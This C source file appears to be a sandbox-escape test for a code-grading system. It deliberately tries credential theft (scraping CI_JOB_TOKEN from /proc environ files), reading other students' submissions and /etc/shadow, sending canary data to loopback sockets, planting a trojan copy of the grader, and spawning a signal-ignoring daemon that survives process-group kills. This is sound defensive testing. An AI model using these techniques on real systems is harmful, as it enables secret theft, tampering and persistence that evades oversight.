// The same theft from C, once from the build (`./prog build MARKER`) and once as the graded program
// (`./prog run MARKER`): every attempt prints what it got, so whatever gets through shows in the output.
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <glob.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "sealed.h"

extern char** environ;
static const char* mode;

// Reads up to 4 KiB of `path` into `buf`; returns the length, or -1 with errno set.
static ssize_t slurp(const char* path, char* buf, size_t size) {
  int fd = open(path, O_RDONLY | O_NONBLOCK);
  if (fd < 0) return -1;
  ssize_t n = read(fd, buf, size - 1);
  close(fd);
  if (n >= 0) buf[n] = '\0';
  return n;
}

static void steal(const char* path) {
  char buf[4096];
  if (slurp(path, buf, sizeof buf) < 0)
    printf("%s read %s: %s\n", mode, path, strerror(errno));
  else
    printf("%s read %s: %s\n", mode, path, buf);
}

static void append(const char* path) {
  int fd = open(path, O_WRONLY | O_APPEND);
  if (fd < 0 || write(fd, "appended by the submission\n", 27) != 27)
    printf("%s append %s: %s\n", mode, path, strerror(errno));
  else
    printf("%s append %s: done\n", mode, path);
  if (fd >= 0) close(fd);
}

static void copy(const char* from, const char* to) {
  int in = open(from, O_RDONLY), out = -1;
  if (in >= 0) out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
  if (in < 0 || out < 0) {
    printf("%s copy %s to %s: %s\n", mode, from, to, strerror(errno));
  } else {
    char buf[65536];
    ssize_t n;
    while ((n = read(in, buf, sizeof buf)) > 0) (void)!write(out, buf, (size_t)n);
    printf("%s copy %s to %s: done\n", mode, from, to);
  }
  if (in >= 0) close(in);
  if (out >= 0) close(out);
}

// Connects to the test's listener and sends it what the canary holds.
static void knock(int family, const char* what) {
  int s = socket(family, SOCK_STREAM, 0);
  int rc = -1;
  if (s >= 0 && family == AF_INET) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(PORT4)};
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    rc = connect(s, (struct sockaddr*)&to, sizeof to);
  } else if (s >= 0 && family == AF_INET6) {
    struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_port = htons(PORT6)};
    to.sin6_addr = in6addr_loopback;
    rc = PORT6 ? connect(s, (struct sockaddr*)&to, sizeof to) : (errno = EADDRNOTAVAIL, -1);
  } else if (s >= 0) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    strncpy(to.sun_path + 1, ABSTRACT, sizeof to.sun_path - 2);
    rc = connect(s, (struct sockaddr*)&to, (socklen_t)(sizeof(sa_family_t) + 1 + strlen(ABSTRACT)));
  }
  if (rc == 0) {
    char buf[4096] = "knock\n";
    slurp(CANARY_TMP, buf, sizeof buf);
    (void)!write(s, buf, strlen(buf));
  }
  printf("%s knock %s: %s\n", mode, what, rc == 0 ? "connected" : strerror(errno));
  if (s >= 0) close(s);
}

// The grader's secret, wherever a process's environment can be read.
static void find_token(void) {
  const char* own = getenv("CI_JOB_TOKEN");
  printf("%s token: %s\n", mode, own ? own : "(unset)");
  DIR* proc = opendir("/proc");
  struct dirent* e;
  while (proc && (e = readdir(proc))) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    char path[300], buf[4096];
    snprintf(path, sizeof path, "/proc/%s/environ", e->d_name);
    ssize_t n = slurp(path, buf, sizeof buf);
    for (ssize_t i = 0; i < n; i += (ssize_t)strlen(buf + i) + 1) {
      if (strncmp(buf + i, "CI_JOB_TOKEN=", 13) == 0)
        printf("%s token in %s: %s\n", mode, path, buf + i + 13);
    }
  }
  if (proc) closedir(proc);
}

// A daemon that outlives the build if nothing stops it: a new session, SIGTERM and SIGHUP ignored, the
// output descriptors kept open, and every 100 ms another try at the host's canary. The program waits
// until the daemon has left its process group, so that killing the group alone does not catch it.
static void lurk(void) {
  int detached[2];
  if (pipe(detached) != 0) return;
  if (fork() != 0) {
    char c;
    close(detached[1]);
    (void)!read(detached[0], &c, 1);
    return;
  }
  setsid();
  if (fork() != 0) _exit(0);
  signal(SIGTERM, SIG_IGN);
  signal(SIGHUP, SIG_IGN);
  close(detached[0]);
  close(detached[1]);
  for (;;) {
    int fd = open(CANARY_TMP, O_WRONLY | O_APPEND);
    if (fd >= 0) {
      (void)!write(fd, "late\n", 5);
      close(fd);
    }
    usleep(100000);
  }
}

int main(int argc, char** argv) {
  mode = argc > 1 ? argv[1] : "run";
  char cwd[4096];
  printf("%s cwd: %s\n", mode, getcwd(cwd, sizeof cwd) ? cwd : strerror(errno));
  for (char** e = environ; *e; ++e) printf("%s env: %s\n", mode, *e);
  steal(CANARY_TMP);
  steal(CANARY_ROOT);
  steal(PEER_ALICE);
  steal(PEER_BOB);
  // The other students' scratch copies, while a batch grades them beside this one.
  glob_t g;
  if (glob("/tmp/ipcgrade-*/work/prog.c", 0, NULL, &g) == 0) {
    for (size_t i = 0; i < g.gl_pathc; ++i) steal(g.gl_pathv[i]);
    globfree(&g);
  }
  append(CANARY_TMP);
  append(CANARY_ROOT);
  printf("%s delete %s: %s\n", mode, CANARY_DEL, unlink(CANARY_DEL) == 0 ? "done" : strerror(errno));
  find_token();
  knock(AF_INET, "tcp4");
  knock(AF_INET6, "tcp6");
  knock(AF_UNIX, "abstract");
  copy(IPCGRADE, DROP "/ipcgrade");
  copy(IPCGRADE, IPCGRADE ".trojan");
  if (access(IPCGRADE, R_OK) == 0) printf("%s: the ipcgrade binary is readable\n", mode);
  // Read, not access(): access() asks only the file's permissions, which Landlock does not change.
  int shadow = open("/etc/shadow", O_RDONLY);
  char byte;
  if (shadow >= 0 && read(shadow, &byte, 1) == 1) printf("%s: /etc/shadow is readable\n", mode);
  if (shadow >= 0) close(shadow);
  // Outside the file-system policy in either mode: the kernel's /sys (the machine's devices and
  // addresses), the host's /run and its loader configuration folder.
  const char* outside[] = {"/sys/kernel/uevent_seqnum", "/run", "/etc/ld.so.conf.d"};
  for (size_t i = 0; i < sizeof outside / sizeof outside[0]; ++i) {
    int fd = open(outside[i], O_RDONLY);
    if (fd >= 0) printf("%s: %s is readable\n", mode, outside[i]);
    if (fd >= 0) close(fd);
  }
  fflush(stdout);
  lurk();
  return 0;
}
